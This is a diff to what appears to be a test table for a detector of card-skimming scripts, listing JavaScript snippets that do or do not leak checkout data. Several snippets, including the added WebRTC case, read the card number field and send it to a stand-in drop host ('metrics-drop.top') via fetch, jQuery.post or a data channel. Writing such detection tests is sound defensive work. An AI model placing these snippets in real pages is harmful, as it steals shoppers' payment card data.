@@ -80,6 +80,11 @@ FLOWS = {
                                f"fetch('{DROP}?n=' + n);",
     "jQuery form serialize": f"jQuery('#pay').on('click', function () {{\n"
                              f"  jQuery.post('{DROP}', jQuery('form#checkout').serialize()); }});",
+    "WebRTC data channel": "var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;\n"
+                           "var pc = new PC({iceServers: [{urls: 'stun:stun.l.google.com:19302'},"
+                           " {urls: 'turn:metrics-drop.top:443?transport=tcp'}]});\n"
+                           "var ch; ch = pc.createDataChannel('ctl');\n"
+                           "ch.send(document.querySelector('#cc_number').value);",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -117,6 +122,11 @@ NO_FLOWS = {
                        f"JSON.stringify({{fields: f.elements.length}}));",
     "constant list joined into a URL": "var n = document.querySelector('#cc_number').value;\n"
                                        f"fetch('{DROP}?v=' + ['a', 'b'].join('_'));",
+    "WebRTC chat text": "var pc = new RTCPeerConnection({iceServers: "
+                        "[{urls: 'turn:metrics-drop.top:443'}]});\n"
+                        "var ch = pc.createDataChannel('chat');\n"
+                        "var n = document.querySelector('#cc_number').value.length;\n"
+                        "ch.send(document.querySelector('#chat-message').value);",
     "negated": "var n = document.querySelector('#cc_number').value;\n"
                f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
     # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
